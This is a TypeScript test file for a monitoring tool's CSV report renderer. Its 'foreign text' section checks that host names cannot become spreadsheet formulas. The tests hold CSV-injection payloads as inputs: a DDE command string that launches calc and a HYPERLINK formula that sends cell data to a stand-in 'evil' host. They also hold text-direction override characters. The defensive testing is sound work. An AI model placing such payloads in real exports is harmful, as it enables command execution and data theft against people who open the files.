import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { Snapshot } from '../../../../main/contract/snapshot'
import { csvColumns, renderCsv } from '../../../../main/reports/formats/csv'
import { container, sampleSections, sampleSnapshot } from '../sample-snapshot'

/** A small reader after RFC 4180: quoted fields may hold quotes (doubled), commas and line breaks. Lines end in CRLF. */
function readCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let at = 0
  while (at < text.length) {
    let field = ''
    if (text[at] === '"') {
      for (at++; ; at++) {
        if (at >= text.length) throw new Error('a quoted field does not end')
        if (text[at] !== '"') field += text[at]
        else if (text[at + 1] === '"') field += text[at++]
        else break
      }
      at++
    } else {
      while (at < text.length && text[at] !== ',' && text[at] !== '\r') {
        if (text[at] === '"' || text[at] === '\n')
          throw new Error(`an unquoted field holds ${JSON.stringify(text[at])}`)
        field += text[at++]
      }
    }
    row.push(field)
    if (text[at] === ',') at++
    else if (text.startsWith('\r\n', at)) {
      rows.push(row)
      row = []
      at += 2
    } else throw new Error(`a field is followed by ${JSON.stringify(text[at])}`)
  }
  if (row.length > 0) throw new Error('the last line has no end')
  return rows
}

type Row = Record<(typeof csvColumns)[number], string>

function rowsOf(snapshot: Snapshot): Row[] {
  const [head, ...rows] = readCsv(renderCsv(snapshot))
  expect(head).toEqual([...csvColumns])
  return rows.map((row) => {
    expect(row).toHaveLength(csvColumns.length)
    return Object.fromEntries(csvColumns.map((column, at) => [column, row[at]])) as Row
  })
}

const find = (rows: Row[], section: string, entity: string, metric: string): Row | undefined =>
  rows.find((row) => row.section === section && row.entity === entity && row.metric === metric)

describe('rows', () => {
  const rows = rowsOf(sampleSnapshot())

  test.each([
    ['disks', '/var/lib/docker', 'fileSystems.usedPercent', '91', 'percent'],
    ['disks', '', 'totals.writeBytesPerSecond', '120000', 'bytes/s'],
    ['disks', 'sda', 'devices.writeOperationsPerSecond', '3.5', 'operations/s'],
    ['cpu', '0', 'cores.busyPercent', '30', 'percent'],
    ['cpu', '', 'frequencyMhz', '3200', 'MHz'],
    ['cpu', '', 'temperatureCelsius', '54.5', 'celsius'],
    ['cpu', '', 'loadAverage.fiveMinutes', '0.71', ''],
    ['cpu', '', 'durationMs', '0.8', 'ms'],
    ['cpu', '', 'status', 'ok', ''],
    ['host', '', 'uptimeSeconds', '1051635', 's'],
    ['network', 'eth0 10.0.0.2', 'interfaces.addresses.prefixLength', '24', ''],
    ['network', 'eth0', 'interfaces.speedMbps', '1000', 'Mbit/s'],
    ['processes', '4312', 'topByCpu.cpuPercentOfCore', '98.2', 'percent'],
    ['containers', 'shop-api', 'containers.memoryUsedBytes', '612000000', 'bytes'],
    ['custom', 'queue_depth', 'metrics.reading.value', '-12', 'jobs'],
    ['custom', 'orders', 'metrics.reading.problem.code', 'custom_failed', ''],
    ['findings', '', 'state', 'warning', ''],
    ['findings', '1', 'list.message', 'Disk /var/lib/docker is 91 % full', ''],
    ['findings', '1', 'list.entity', '/var/lib/docker', ''],
    ['snapshot', '', 'cost.peakRssBytes', '62000000', 'bytes'],
  ])('%s, %s, %s is %s %s', (section, entity, metric, value, unit) => {
    expect(find(rows, section, entity, metric)).toEqual({
      time: '2026-11-23T05:07:15.250Z',
      host: 'web-1',
      section,
      entity,
      metric,
      value,
      unit,
    })
  })

  test('there is one row for every value that is known, and none for null', () => {
    const { custom, ...sections } = sampleSections()
    const snapshot = sampleSnapshot({ sections })
    const scalars = (value: unknown): number => {
      if (value === null || value === undefined) return 0
      if (typeof value !== 'object') return 1
      return Object.values(value).reduce<number>((sum, inner) => sum + scalars(inner), 0)
    }
    expect(rowsOf(snapshot)).toHaveLength(scalars(snapshot))
    expect(custom.status, 'told in fewer rows than it has values, below').toBe('ok')
    expect(find(rows, 'cpu', '1', 'cores.busyPercent')).toBeUndefined()
  })

  test('no two rows are about the same thing', () => {
    const twins = container({ name: 'same' })
    const { containers, ...sections } = sampleSections()
    if (containers.status !== 'ok') throw new Error('the sample has containers')
    const value = { ...containers.value, containers: [twins, twins, twins] }
    const all = rowsOf(sampleSnapshot({ sections: { ...sections, containers: { ...containers, value } } }))
    const names = all.map(({ section, entity, metric }) => `${section}|${entity}|${metric}`)
    expect(new Set(names).size).toBe(names.length)
    expect(find(all, 'containers', 'same#3', 'containers.name')?.value).toBe('same')
  })

  test('a section that failed or is unavailable has its status, its reason and its duration', () => {
    const problem = { code: 'docker_silent', message: 'No answer, "really".', hint: null }
    const sections = { containers: { status: 'failed', durationMs: 2000, problem } } as const
    const all = rowsOf(sampleSnapshot({ sections })).filter(({ section }) => section === 'containers')
    expect(all.map(({ metric, value, unit }) => [metric, value, unit])).toEqual([
      ['status', 'failed', ''],
      ['durationMs', '2000', 'ms'],
      ['problem.code', 'docker_silent', ''],
      ['problem.message', 'No answer, "really".', ''],
    ])
  })
})

describe('foreign text', () => {
  const shown = (name: string): string | undefined =>
    find(rowsOf(sampleSnapshot({ host: { name, id: null } })), 'snapshot', '', 'host.name')?.value

  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\ta',
    '\ra',
    '\na',
    '  =1',
    '＝1',
    "'=1",
    "=cmd|' /C calc'!A0",
  ])('a spreadsheet does not run %j', (name) => expect(shown(name)).toBe(`'${name}`))

  test.each([
    ['/media/x;=HYPERLINK("http://evil/?"&A1;"x")', `/media/x;'=HYPERLINK("http://evil/?"&A1;"x")`],
    ['a;b;-1;+1', `a;b;'-1;'+1`],
    ['a; @x', `a;' @x`],
    ['a;"=1"', `a;'"=1"`],
    ["a;'=1", `a;''=1`],
    ['a\t=1\r\n=2', `a\t'=1\r\n'=2`],
    ['\t=1', `'\t'=1`],
    ['\n\n=1', `'\n\n'=1`],
    ['a;b=1, -2', 'a;b=1, -2'],
  ])('nor one that splits at semicolons, tabs or line breaks %j', (name, harmless) =>
    expect(shown(name)).toBe(harmless),
  )

  /** Of what stands in the way of reading it back, as often as chance has it. */
  const tricky = fc.string({
    unit: fc.constantFrom("'", '"', ';', ',', ' ', '\t', '\n', '\r', '=', '-', '＠', 'a'),
  })

  test('wherever a reader splits, and whatever it thinks of quotes, no cell begins as a formula', () => {
    fc.assert(
      fc.property(tricky, (name) => {
        const csv = renderCsv(sampleSnapshot({ host: { name, id: null } }))
        for (const separators of [/[\r\n]/, /[;\r\n]/, /[\t\r\n]/, /[;\t\r\n]/])
          for (const cell of csv.split(separators))
            if (/^[\s"]*[=+\-@＠]/.test(cell)) throw new Error(`a cell begins as a formula: ${cell}`)
      }),
      { numRuns: 100 },
    )
  })

  test('what the apostrophes stand in front of comes back as it was', () => {
    const back = (text: string): string =>
      text
        .replace(/(?<=^|[;\t\r\n])'(?='*(?:[^\S\t\r\n]|")*[=+\-@＝＋－＠])/g, '')
        .replace(/^'(?='*[\t\r\n])/, '')
    fc.assert(
      fc.property(tricky, (name) => {
        expect(back(shown(name)!)).toBe(name)
      }),
      { numRuns: 100 },
    )
  })

  test('marks that turn the direction of reading are marked, as in every report', () => {
    expect(shown('a\u202egpj.\u2066b\u200f\u2028\ufeffc')).toBe('a\ufffdgpj.\ufffdb\ufffd\ufffd\ufffdc')
  })

  test('a host or container name is defused where it names rows, too', () => {
    const rows = rowsOf(sampleSnapshot({ host: { name: '=evil', id: null } }))
    expect(new Set(rows.map(({ host }) => host))).toEqual(new Set(["'=evil"]))
  })

  test('negative numbers stay numbers', () => {
    expect(find(rowsOf(sampleSnapshot()), 'custom', 'queue_depth', 'metrics.reading.value')?.value).toBe(
      '-12',
    )
  })

  test('quotes, commas and line breaks come back as they were; other control characters are marked', () => {
    expect(shown('a "b", c\r\nd')).toBe('a "b", c\r\nd')
    expect(shown('a\u001b[2Jb\u0000\ud800')).toBe('a\ufffd[2Jb\ufffd\ufffd')
  })

  test('any name makes well-formed rows, and no cell begins as a formula', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (name) => {
        for (const row of rowsOf(sampleSnapshot({ host: { name, id: null } }))) {
          if (/^\s*[=+@-]/.test(row.host)) throw new Error(`a cell begins as a formula: ${row.host}`)
        }
      }),
      { numRuns: 50 },
    )
  })
})

test('a custom metric is told once: its name as the entity, its unit in the column', () => {
  const told = rowsOf(sampleSnapshot()).filter(({ section }) => section === 'custom')
  expect(told.filter(({ metric }) => /\.(name|unit|help)$/.test(metric ?? ''))).toEqual([])
  expect(told.filter(({ entity }) => entity === 'queue_depth').map(({ metric }) => metric)).toEqual([
    'metrics.reading.status',
    'metrics.reading.durationMs',
    'metrics.reading.value',
  ])
})
